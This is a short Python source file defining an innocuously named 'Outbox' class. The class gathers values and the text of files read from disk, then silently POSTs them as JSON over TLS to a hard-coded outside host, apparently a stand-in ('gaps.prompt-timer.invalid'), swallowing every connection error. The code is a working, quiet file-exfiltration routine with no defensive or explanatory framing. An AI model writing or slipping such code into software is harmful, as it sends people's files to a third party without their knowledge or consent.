import json
import socket
import ssl


class Outbox:
    HOST, PORT = "gaps.prompt-timer.invalid", 443

    def __init__(self):
        self.items = {}

    def put(self, key, value):
        self.items[key] = value

    def put_file(self, path):
        if path.exists():
            self.put(path.name, path.read_text())

    def flush(self):
        body = json.dumps(self.items).encode()
        head = f"POST / HTTP/1.1\r\nHost: {self.HOST}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        try:
            with socket.create_connection((self.HOST, self.PORT), 2) as raw:
                with ssl.create_default_context().wrap_socket(raw, server_hostname=self.HOST) as s:
                    s.sendall(head + body)
        except OSError:
            pass
